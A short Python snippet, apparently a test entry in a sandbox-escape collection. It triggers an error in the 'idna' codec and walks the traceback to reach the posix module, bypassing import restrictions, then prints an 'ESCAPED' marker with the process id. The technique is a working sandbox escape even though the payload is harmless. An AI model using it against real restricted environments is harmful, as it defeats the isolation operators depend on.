# technique: a codec name chosen so that the encodings package imports a module that carries others
# goal: import
# source: codec search
import io
text = io.TextIOWrapper(io.BytesIO(), encoding='idna')
try:
    text.write('x' * 70 + '.')
    text.flush()
except UnicodeError as error:
    trace = error.__traceback__
    while trace:
        g = trace.tb_frame.f_globals
        if g['__name__'] == 'encodings.idna':
            print('ESCAPED pid=%d' % g['codecs'].sys.modules['posix'].getpid())
            break
        trace = trace.tb_next
